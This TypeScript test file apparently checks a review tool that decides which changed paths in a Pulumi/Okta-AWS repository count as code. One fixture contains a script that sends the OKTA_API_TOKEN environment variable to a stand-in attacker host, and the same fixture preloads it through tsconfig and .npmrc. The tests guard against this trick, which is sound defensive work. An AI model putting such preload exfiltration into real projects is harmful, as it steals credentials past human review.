// The access diff's list of code: every changed path that the data allow-list (tools/plan/dataPaths.ts)
// does not name is code and needs a human review, whatever its name or folder.
import { expect } from "chai";
import { execFileSync } from "child_process";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { codeChanges } from "../tools/plan/atRevision";

describe("the paths that count as code in the access diff", () => {
    let repo: string;
    /**
     * Commits the working tree, untracked files too. One process for both git commands: a spawn from
     * this (large) process costs more than the git work of these small repositories.
     */
    const commitAll = (message: string) =>
        execFileSync("sh", ["-c", 'git add -A && git -c user.name=test -c user.email=test@example.com commit -qm "$1"', "sh", message], {
            cwd: repo,
        });
    const write = (files: Record<string, string>) => {
        for (const [file, text] of Object.entries(files)) {
            fs.mkdirSync(path.dirname(path.join(repo, file)), { recursive: true });
            fs.writeFileSync(path.join(repo, file), text);
        }
    };
    /** Commits `files` on top of a base holding `baseFiles`, and returns the code paths between the two. */
    const changesOf = (baseFiles: Record<string, string>, files: Record<string, string>) => {
        write(baseFiles);
        commitAll("base");
        write(files);
        commitAll("head");
        return codeChanges(repo, "HEAD~1", "HEAD");
    };
    const project = { "Pulumi.yaml": "name: okta-aws\nruntime: nodejs\n", "Pulumi.retail.yaml": "config: {}\n", "index.ts": "" };

    beforeEach(() => {
        repo = fs.mkdtempSync(path.join(os.tmpdir(), "okta-aws-data-paths-"));
        execFileSync("git", ["init", "-q", "-b", "main", repo]);
    });
    afterEach(() => fs.rmSync(repo, { recursive: true, force: true }));

    it("calls a preloaded script and what preloads it code: ts-node's require in tsconfig, node-options in .npmrc", () => {
        const changes = changesOf(
            { ...project, "tsconfig.pulumi.json": '{ "compilerOptions": {} }\n' },
            {
                "telemetry.js": "require('https').get('https://collector.attacker.example/' + process.env.OKTA_API_TOKEN)\n",
                "tsconfig.pulumi.json": '{ "compilerOptions": {}, "ts-node": { "require": ["./telemetry.js"] } }\n',
                ".npmrc": "node-options=--require=./telemetry.js\n",
            },
        );
        expect(changes).to.deep.equal([".npmrc", "telemetry.js", "tsconfig.pulumi.json"]);
    });

    it("calls stack files, the policy documents in policies/ and Markdown data", () => {
        const changes = changesOf(project, {
            "Pulumi.retail.yaml": "config: { aws:region: us-east-1 }\n",
            "Pulumi.data.yaml": "config: {}\n",
            "policies/s3-read.json": "{}\n",
            "policies/team/deploy.json": "{}\n",
            "README.md": "# okta-aws\n",
            "docs/topics.md": "# Topics\n",
        });
        expect(changes).to.deep.equal([]);
    });

    it("calls everything else code: dotfiles, tool settings, the lock file, workflows, Pulumi.yaml, other files in policies/, existing.json", () => {
        const changes = changesOf(project, {
            "existing.json": "{}\n",
            ".mocharc.json": "{}\n",
            ".nvmrc": "20\n",
            ".gitattributes": "*.json filter=evil\n",
            "package-lock.json": "{}\n",
            ".github/workflows/deploy.yml": "on: push\n",
            "Pulumi.yaml": "name: okta-aws\nruntime: { name: nodejs, options: { nodeargs: --require=./x.js } }\n",
            "policies/helper.js": "\n",
            "policies/notes.yaml": "\n",
            "docs/build.ts": "\n",
            "scripts/setup.sh": "\n",
        });
        expect(changes).to.deep.equal([
            ".gitattributes",
            ".github/workflows/deploy.yml",
            ".mocharc.json",
            ".nvmrc",
            "Pulumi.yaml",
            "docs/build.ts",
            "existing.json",
            "package-lock.json",
            "policies/helper.js",
            "policies/notes.yaml",
            "scripts/setup.sh",
        ]);
    });

    it("reads the stack folder from each revision's Pulumi.yaml: files Pulumi would not read there are code", () => {
        const changes = changesOf(
            {
                ...project,
                "Pulumi.yaml": "name: okta-aws\nruntime: nodejs\nstackConfigDir: stacks\n",
                "stacks/Pulumi.retail.yaml": "config: {}\n",
            },
            {
                "stacks/Pulumi.retail.yaml": "config: { aws:region: us-east-1 }\n",
                "stacks/policies/s3-read.json": "{}\n",
                "policies/s3-read.json": "{}\n",
                "Pulumi.sales.yaml": "config: {}\n",
            },
        );
        expect(changes).to.deep.equal(["Pulumi.sales.yaml", "policies/s3-read.json"]);
    });

    it("judges the working tree's changes and untracked files alike", () => {
        write(project);
        commitAll("base");
        write({ "Pulumi.retail.yaml": "config: { aws:region: us-east-1 }\n", "preload.cjs": "\n", ".npmrc": "x=1\n" });
        expect(codeChanges(repo, "HEAD", undefined)).to.deep.equal([".npmrc", "preload.cjs"]);
    });
});
